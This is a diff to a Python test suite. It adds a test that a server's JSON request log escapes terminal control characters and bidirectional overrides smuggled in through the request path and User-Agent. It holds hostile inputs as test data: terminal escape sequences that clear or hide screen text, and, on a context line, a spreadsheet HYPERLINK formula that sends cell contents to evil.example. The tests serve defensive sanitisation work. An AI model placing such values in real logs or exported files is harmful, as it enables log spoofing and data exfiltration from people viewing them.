@@ -179,6 +179,28 @@ def test_audit_tsv_carries_no_terminal_controls(edge: World) -> None:
     assert by_id[f"esc-{mark}"]["object_id"] is None
 
 
+def test_request_log_lines_carry_no_terminal_controls(edge: World) -> None:
+    """The JSON request log: msgspec escapes C0 controls, but C1 controls (CSI, NEL), DEL,
+    the line and paragraph separators and bidirectional overrides of `path` and `user_agent`
+    went out raw, for a terminal or log viewer showing the log to act on. Each is written
+    as a JSON escape: the line stays one line, and a JSON reader gets the exact value."""
+    server = edge.server
+    rid = f"log-{uuid.uuid4().hex}"
+    path = "/nowhere/%c2%9b2J%c2%85%e2%80%a8%e2%80%a9%e2%80%ae%7f%1b%5b8m"
+    agent = "ua\x9b2J\x85"  # sent as Latin-1 bytes: 0x9b is CSI to a terminal
+    assert send(server, "GET", path, {"X-Request-ID": rid, "User-Agent": agent}) == 404
+    logged(server, rid)
+    raw = (server.data_dir / "server.log").read_bytes()
+    (line,) = [x for x in raw.split(b"\n") if rid.encode() in x]
+    text = line.decode("utf-8")
+    for char in (*HIDDEN, "\u2029"):
+        assert char not in text, repr(char)
+    assert text.splitlines() == [text]
+    record = json.loads(text)
+    assert record["path"] == "/nowhere/\x9b2J\x85\u2028\u2029\u202e\x7f\x1b[8m"
+    assert record["user_agent"] == agent
+
+
 # -- 8: exported TSVs forge no rows and start no formulas ----------------------------------
 HOSTILE_DATA_TYPE = '=HYPERLINK("http://evil.example/?"&A1,"x")\tforged\nDO1\t=1+1\r@x\u2028y'
 
